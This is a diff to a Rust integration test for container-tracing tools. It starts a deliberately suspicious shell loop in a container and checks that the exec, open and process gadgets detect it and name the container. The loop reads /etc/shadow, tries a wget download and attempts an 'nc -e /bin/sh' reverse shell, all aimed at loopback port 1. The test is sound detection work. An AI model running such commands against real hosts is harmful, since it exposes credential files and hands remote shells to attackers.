@@ -1,5 +1,6 @@
 //! The question that began it: is anything suspicious going on? A container reads what it should not, downloads a
-//! program and opens a door; three gadgets, started as an assistant would, each find it and name the container.
+//! program and opens a shell to the outside; three gadgets, started as an assistant would, each find it and name the
+//! container.
 
 use std::time::Duration;
 
@@ -9,9 +10,10 @@ use gadgetry_tests::host::Host;
 use serde_json::{Value, json};
 
 const IMAGES: &str = "-gadget-images=trace_exec,trace_open,snapshot_process";
-/// Nobody listens on port 1: the download fails, the attempt is what counts. The door is a listener on loopback.
-const SUSPICIOUS: &str = "while :; do cat /etc/shadow; wget -q -T 1 -O /tmp/x http://127.0.0.1:1/x; \
-    nc -l -p 0 -s 127.0.0.1 -w 1; sleep 0.2; done";
+/// Nobody listens on port 1 of loopback: nothing is downloaded and no shell is given away; the attempts are what counts.
+/// It ends when it is told to by a file, and by itself, whatever becomes of the test.
+const SUSPICIOUS: &str = "n=0; while [ ! -e /tmp/stop ] && [ $n -lt 60 ]; do n=$((n+1)); cat /etc/shadow; \
+    wget -q -O /tmp/x http://127.0.0.1:1/x; nc -w 1 127.0.0.1 1 -e /bin/sh; sleep 0.3; done";
 
 /// The rows of a tool's result that happened in the container.
 fn of<'a>(result: &'a Value, container: &str) -> Vec<&'a Value> {
@@ -26,15 +28,17 @@ fn suspicious_activity_is_found_and_named() {
     let folder = tempfile::tempdir().expect("a folder");
     for runtime in ["crun", "runc"] {
         let name = container::name(&format!("suspicious-{runtime}"));
-        // It ends by itself, whatever becomes of this test.
-        let script = format!("timeout 25 sh -c '{SUSPICIOUS}'");
-        let mut running = container::start(runtime, folder.path(), &name, &["sh", "-c", &script]);
+        let stop = folder.path().join("rootfs/tmp/stop");
+        let mut running = container::start(runtime, folder.path(), &name, &["sh", "-c", SUSPICIOUS]);
         std::thread::sleep(Duration::from_millis(1500));
         let steps = Steps::new()
             .call("snapshot_process", json!({}))
             .call("trace_exec", json!({"duration": 4, "container": [name]}))
             .and_call("trace_open", json!({"duration": 4, "container": [name]}));
         let seen = client::stdio(&host, "auto", &[IMAGES], steps);
+        std::fs::write(&stop, "").expect("the container's folder");
+        running.wait().expect("the container ends");
+        std::fs::remove_file(&stop).expect("the container's folder");
         let [processes, programs, files] = &seen.results[..] else { panic!("{:?}", seen.results) };
 
         let processes = of(processes, &name);
@@ -47,6 +51,5 @@ fn suspicious_activity_is_found_and_named() {
         for row in processes.iter().chain(&programs).chain(&files) {
             assert_eq!(row["container"]["runtime"], runtime, "{row}");
         }
-        assert!(running.wait().is_ok());
     }
 }
